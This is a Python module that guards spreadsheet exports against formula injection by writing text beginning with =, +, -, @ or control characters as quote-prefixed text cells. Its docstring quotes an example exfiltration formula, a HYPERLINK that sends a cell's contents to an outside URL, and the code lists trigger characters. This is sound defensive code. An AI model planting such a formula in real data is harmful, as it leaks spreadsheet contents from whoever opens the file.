"""Values written into spreadsheets that staff download and open in Excel or WPS.

A text that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
programs skip before looking) is read as a formula when the file is opened or the cell edited:
``=HYPERLINK("http://…?"&A2, "点击")`` typed into a visitor's name or a talk's notes would send
a ledger's contents elsewhere, and openpyxl itself stores any string starting with ``=`` as a
formula. Every cell of every export goes through :func:`safe_cell`, which writes such text as a
text cell with Excel's quote prefix (what typing ``'`` before it does): shown and edited as plain
text, the exact characters kept, no apostrophe added to the data. Numbers stay numbers.
"""

from __future__ import annotations

from typing import Any

#: First characters that make a spreadsheet program treat text as a formula (full-width forms too,
#: which some Chinese input methods produce and some programs normalise).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def safe_cell(value: Any, sheet: Any) -> Any:
    """What to append to ``sheet`` for ``value``: the value itself, unless it is text a spreadsheet
    would run as a formula; then a text cell with the quote prefix, holding the same text."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        from openpyxl.cell import WriteOnlyCell

        cell = WriteOnlyCell(sheet, value=value)
        cell.data_type = "s"
        cell.quotePrefix = True
        return cell
    return value
